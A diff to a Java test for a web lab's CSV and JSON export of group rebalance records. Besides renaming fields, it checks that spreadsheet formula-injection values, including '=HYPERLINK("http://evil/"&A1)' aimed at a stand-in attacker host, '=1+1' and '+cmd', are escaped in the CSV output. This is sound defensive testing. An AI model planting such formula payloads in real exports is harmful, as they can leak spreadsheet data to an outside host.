@@ -35,8 +35,8 @@ class ExportTest {
     @BeforeEach
     void a_lab_was_used() {
         Map<String, Long> wrong = Map.of("NO_MATCH", 1L, "MISSING_FIELD:reason", 2L, "NEW_CODE", 4L);
-        web.lab.score = new Score(33, 4, wrong, Optional.of(new Coverage(40, 30, List.of(new Position(0, 118)))));
-        web.lab.deleted = new RetentionLoss(9, 8, UnreadUsers.NONE);
+        web.lab.teams.score = new Score(33, 4, wrong, Optional.of(new Coverage(40, 30, List.of(new Position(0, 118)))));
+        web.lab.teams.deleted = new RetentionLoss(9, 8, UnreadUsers.NONE);
     }
 
     @Test
@@ -69,7 +69,7 @@ class ExportTest {
         Rebalance original = new Told().by("m-c", Cause.MEMBER_JOINED).rebalance();
         Rebalance foreign =
                 new Told().by("=1+1", Cause.UNKNOWN).move(4, "m-b", "=1+1").rebalance();
-        web.lab.rebalances = List.of(
+        web.lab.groups.rebalances = List.of(
                 hostile(original, "=HYPERLINK(\"http://evil/\"&A1)", "+cmd, \"now\""), hostile(foreign, "x", "-1"));
 
         List<String> lines =
@@ -78,11 +78,11 @@ class ExportTest {
         assertThat(lines)
                 .containsExactly(
                         "group,id,started_at_utc,started_at_ms,completed_at_utc,completed_at_ms,duration_ms,error_ms,"
-                                + "precision,cause,cause_precision,culprits,from_epoch,to_epoch,moved,moves,handed_over,"
-                                + "at_risk,redelivered,acted_twice,detail,sentence",
+                            + "precision,cause,cause_precision,culprits,from_epoch,to_epoch,moved,moves,handed_over,"
+                            + "at_risk,redelivered,acted_twice,detail,sentence",
                         "team-1,4-2800,1970-01-01T00:00:01.000Z,1000,1970-01-01T00:00:02.800Z,2800,1800,0,exact,UNKNOWN,exact,'=1+1,3,4,1,users-4:"
-                                + " m-b to =1+1,users-4,12,,,'-1,\"A member made the group rebalance for an unknown"
-                                + " reason, so partition 4 moved from a member to a member. It took 1.8 s.\"",
+                            + " m-b to =1+1,users-4,12,,,'-1,\"A member made the group rebalance for an unknown"
+                            + " reason, so partition 4 moved from a member to a member. It took 1.8 s.\"",
                         "team-1,4-2800,1970-01-01T00:00:01.000Z,1000,1970-01-01T00:00:02.800Z,2800,1800,0,exact,"
                                 + "MEMBER_JOINED,exact,\"C (=HYPERLINK(\"\"http://evil/\"\"&A1))\",3,4,0,,users-4,12,,,"
                                 + "\"'+cmd, \"\"now\"\"\",\"C joined, and no partition moved. It took 1.8 s.\"");
@@ -90,7 +90,8 @@ class ExportTest {
 
     @Test
     void the_results_are_one_object_in_json() throws Exception {
-        web.lab.rebalances = List.of(new Told().by("m-c", Cause.MEMBER_JOINED).rebalance());
+        web.lab.groups.rebalances =
+                List.of(new Told().by("m-c", Cause.MEMBER_JOINED).rebalance());
 
         HttpResponse<String> answer = instructor("/api/v1/export?format=json");
         JsonNode results = new ObjectMapper().readTree(answer.body());
